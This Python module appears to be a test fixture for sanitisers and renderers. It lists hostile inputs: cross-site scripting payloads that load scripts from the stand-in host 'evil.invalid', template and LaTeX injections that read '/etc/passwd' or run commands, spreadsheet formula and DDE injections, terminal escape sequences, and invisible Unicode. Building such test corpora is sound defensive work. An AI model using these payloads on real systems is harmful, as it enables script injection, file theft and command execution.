"""Strings that a model, a data set or a stranger's recipe may hold, each of which some reader would obey if it were let.

`MARK` stands in what would be fetched, so that a request shows where it came from; nothing of that name exists.
"""

import unicodedata
from collections.abc import Sequence

MARK = "evil.invalid"

TAGS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.invalid/a.js></SCRIPT>",
    "<script type=module>import('//evil.invalid/b.js')</script>",
    "<scr<script>ipt>alert(2)</scr</script>ipt>",
    "<img src=x onerror=alert(3)>",
    "<img src=//evil.invalid/c.png>",
    "<img/src=`x`/onerror=alert(4)>",
    "<svg onload=alert(5)>",
    "<svg><script href=//evil.invalid/d.js /></svg>",
    "<svg><animate onbegin=alert(6) attributeName=x dur=1s></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(7)>#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(8)></style></mglyph></table></mtext></math>",
    "<body onload=alert(9)>",
    "<body onpageshow=alert(10)>",
    "<iframe src=javascript:alert(11)></iframe>",
    "<iframe srcdoc='<script>parent.alert(12)</script>'></iframe>",
    "<object data=//evil.invalid/e.swf></object>",
    "<embed src=//evil.invalid/f.svg>",
    "<link rel=stylesheet href=//evil.invalid/g.css>",
    "<style>@import '//evil.invalid/h.css';</style>",
    "<style>*{background:url(//evil.invalid/i.png)}</style>",
    "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/j'>",
    "<form action=//evil.invalid><button autofocus onfocus=alert(13)>go</button></form>",
    "<input autofocus onfocus=alert(14)>",
    "<details open ontoggle=alert(15)>more</details>",
    "<video><source onerror=alert(16)></video>",
    "<audio src=//evil.invalid/k.mp3 onerror=alert(17)>",
    "<marquee onstart=alert(18)>text</marquee>",
    "<template shadowrootmode=open><script>alert(19)</script></template>",
    "<portal src=//evil.invalid></portal><dialog open onclose=alert(20)>",
    "<a href=javascript:alert(21)>link</a>",
    "<a href='java\tscript:alert(22)'>link</a>",
    "<a href=//evil.invalid ping=//evil.invalid/l>link</a>",
)
BREAKS = (
    '" onmouseover="alert(23)" x="',
    "' onmouseover='alert(24)' x='",
    "` onmouseover=alert(25) ",
    '"><script>alert(26)</script>',
    "'><img src=x onerror=alert(27)>",
    "</title><script>alert(28)</script>",
    "</style><script>alert(29)</script>",
    "</pre></td></table></div></main><script>alert(30)</script>",
    "</script><script>alert(31)</script>",
    "</textarea><script>alert(32)</script>",
    "--><script>alert(33)</script><!--",
    "<!--><img src=x onerror=alert(34)>-->",
    "]]><script>alert(35)</script><![CDATA[",
    "<?xml-stylesheet href='//evil.invalid/m.xsl'?>",
    "100%; background:url(//evil.invalid/n.png)",
    '#results" onclick="alert(36)',
)
ENCODINGS = (
    "&lt;script&gt;alert(37)&lt;/script&gt;",
    "&#60;script&#62;alert(38)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(39)&#x3e;",
    "%3Cscript%3Ealert(40)%3C/script%3E",
    "+ADw-script+AD4-alert(41)+ADw-/script+AD4-",
    "\\u003cscript\\u003ealert(42)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(43)\uff1c/script\uff1e",
    "\u2028<script>alert(44)</script>\u2029",
    "\x00<scr\x00ipt>alert(45)</scr\x00ipt>",
    "\ufeff<script>alert(46)</script>",
    "\ud83d<script>alert(47)</script>",
)
LANGUAGES = (
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include '/etc/passwd' %}{# #}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "[link](javascript:alert(48)) ![image](//evil.invalid/o.png)",
    "<u>under</u> **bold** `code` |cell| # head",
    '[ref]: //evil.invalid/p "title"',
    "\\input{/etc/passwd}\\write18{id}^^5cinput",
    "$\\def\\x{\\x\\x}\\x$ & % # _ { } ~ ^",
    '=HYPERLINK("//evil.invalid","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "[bold red]rich[/bold red] [link=//evil.invalid]x[/link] [/]",
)
ESCAPES = (
    "\x1b[31mred\x1b[0m\x1b[2J\x1b[1;1H",
    "\x1b]0;title\x07\x1b]8;;//evil.invalid\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;ZWNobyBoaQ==\x07\x9b31m",
    "\x1bP+q544e\x1b\\\x1b_Gf=24;AAAA\x1b\\",
    "over\rwritten\x08\x08\x7f",
    "\u202e\u2066reversed\u2069\u202c",
)
INVISIBLE = (
    "\u061carabic letter mark",
    "zero\u200bwidth space",
    "zero width\u200djoiner and\u200cnon-joiner",
    "word\u2060joiner",
    "soft\u00adhyphen and grapheme\u034fjoiner",
    "tags \U000e0041\U000e0042\U000e007f of letters",
    "variation\ufe0f\U000e0100\U000e01ef selectors",
    "fillers \u3164\u115f\u1160\uffa0 of Hangul",
    "mongolian\u180e\u180b separator",
    "annotation\ufff9anchor\ufffa\ufffb",
    "shorthand\U0001bca0 and music\U0001d173",
    "invisible\u2061\u2062\u2064 operators",
    "\u200f\u200emarks of both directions",
    "\u206anational\u206f digit shapes",
    "\u17b4\u17b5vowels of Khmer",
)
FORMULAS = (
    "+1+1",
    "-1+1",
    "|calc",
    "%0A=1+1",
    "\uff1d1+1 full width",
    "\uff0b1+1 full width",
    "\uff20SUM(1) full width",
    "\u200b=1+1 behind a space of no width",
    "\U000e0020=1+1 behind a tag",
    "a;=1+1",
    "a;\u200b=cmd|' /C calc'!A0",
    "a\uff1b\uff1d1+1",
    "a\u037e=1+1",
    "'=1+1",
    ' "=1+1',
    "\ufeff=1+1",
    "\u00ad-2+3",
)
LINES = (
    "label\nmgsr   100.00",
    "label\r\nmgsr   101.00",
    "label\u2028mgsr   102.00",
    "label\u2029mgsr   103.00",
    "label\x85mgsr   104.00",
    "label\x0bmgsr\x0c 105.00",
    "label\x1dmgsr\x1e 106.00",
)
HOSTILE = TAGS + BREAKS + ENCODINGS + LANGUAGES + ESCAPES + INVISIBLE + FORMULAS + LINES


def hidden(text: str) -> set[str]:
    """The characters of a text that are not visible or change the direction of text, as Unicode classifies them."""
    signs = {*map(chr, range(0x600, 0x606)), *"\u06dd\u070f\u0890\u0891\u08e2\U000110bd\U000110cd"}  # visible format characters
    selectors = {*map(chr, range(0xFE00, 0xFE10)), *map(chr, range(0xE0100, 0xE01F0))}
    others = selectors | {*"\u034f\u115f\u1160\u3164\uffa0\u17b4\u17b5"}
    return {sign for sign in text if unicodedata.category(sign) in {"Cf", "Zl", "Zp", "Cs"} or sign in others} - signs


def batches(size: int) -> list[Sequence[str]]:
    """The strings, a given number at a time."""
    return [HOSTILE[start : start + size] for start in range(0, len(HOSTILE), size)]
